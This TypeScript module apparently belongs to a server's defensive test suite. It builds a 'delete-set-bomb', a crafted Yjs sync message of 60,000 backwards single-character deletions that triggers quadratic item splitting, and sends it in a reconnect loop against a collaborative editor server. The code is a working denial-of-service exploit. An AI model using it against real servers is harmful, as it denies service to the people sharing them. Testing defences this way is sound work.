import * as encoding from 'lib0/encoding';
import * as Y from 'yjs';
import {
  closeOrRoundTrip,
  firstParagraph,
  openEditor,
  openRaw,
  serverRoundTrip,
  syncMessage,
  waitUntil,
} from '../../support/collab';
import { CloseTally, offenderRoom } from '../../support/offenderRoom';
import { delay } from '../../support/wait';
import type { Attack, AttackContext, RunningAttack } from './types';

/** Characters of the long text the offender types first (one Yjs item). */
export const TEXT_LENGTH = 121_000;
/** Single-character deletions in one bomb (every other character): about 232 KB, as in the issue. */
const RANGES = 60_000;

/**
 * A delete set of `RANGES` single-character ranges of one item, listed from its end backwards: on an
 * empty document it costs nothing, on the live one Yjs splits the item once per range (quadratic).
 */
export function deleteSetBomb(client: number, firstClock: number, ranges = RANGES): Uint8Array {
  const e = encoding.createEncoder();
  encoding.writeVarUint(e, 0); // no structs
  encoding.writeVarUint(e, 1); // one client in the delete set
  encoding.writeVarUint(e, client);
  encoding.writeVarUint(e, ranges);
  for (let i = ranges - 1; i >= 0; i--) {
    // Every other character: neighbouring deletions would merge and cost less.
    encoding.writeVarUint(e, firstClock + 2 * i);
    encoding.writeVarUint(e, 1);
  }
  return encoding.toUint8Array(e);
}

/** The clock of the first character of the longest string item `client` wrote. */
export function longestItem(doc: Y.Doc, client: number): { clock: number; length: number } {
  let best = { clock: 0, length: 0 };
  for (const struct of doc.store.clients.get(client) ?? []) {
    if (struct instanceof Y.Item && struct.content instanceof Y.ContentString && struct.length > best.length)
      best = { clock: struct.id.clock, length: struct.length };
  }
  return best;
}

/** What the test needs besides `stop`: the room and the offender's close codes. */
export interface RunningBomb extends RunningAttack {
  proposalId: string;
  /** A participant of the offender's meeting who did nothing (to read the text afterwards). */
  readerToken: string;
  tally: CloseTally;
}

export async function startDeleteSetBomb({ url, adminToken }: AttackContext): Promise<RunningBomb> {
  const room = await offenderRoom(url, adminToken);
  const editor = openEditor(url, room.proposalId, room.offender.token);
  await editor.synced;
  await waitUntil(() => firstParagraph(editor.doc).length > 0, 'the offender has the text');
  const text = firstParagraph(editor.doc);
  text.insert(text.length, 'a'.repeat(TEXT_LENGTH));
  const item = longestItem(editor.doc, editor.doc.clientID);
  const bomb = syncMessage(
    2,
    deleteSetBomb(editor.doc.clientID, item.clock, Math.min(RANGES, Math.floor(item.length / 2))),
  );
  // Stored once the server answered a round trip after the text: a fresh reader sees it.
  await serverRoundTrip(editor.provider.ws);
  const tally = new CloseTally();
  let running = true;
  const loop = (async () => {
    while (running) {
      let raw: Awaited<ReturnType<typeof openRaw>>;
      try {
        raw = await openRaw(url, room.proposalId, room.offender.token);
      } catch {
        tally.add(429); // the upgrade refused: over the participant's upgrade budget
        await delay(250); // a pause, not a wait: the budget refills
        continue;
      }
      raw.send(bomb);
      const closed = await closeOrRoundTrip(raw.ws, raw.closed);
      if (closed) tally.add(closed.code);
      raw.ws.terminate();
    }
  })();
  return {
    proposalId: room.proposalId,
    readerToken: room.victim.token,
    tally,
    stop: async () => {
      running = false;
      await loop.catch(() => {});
      editor.destroy();
      room.close();
      return `bombs closed: ${tally}`;
    },
  };
}

export const attack: Attack = {
  name: 'delete-set-bomb',
  summary: `types a ${TEXT_LENGTH / 1000}k-character text, then sends ${RANGES / 1000}k single-character deletions of every other character from the end backwards (~232 KB), again after each close`,
  start: startDeleteSetBomb,
};
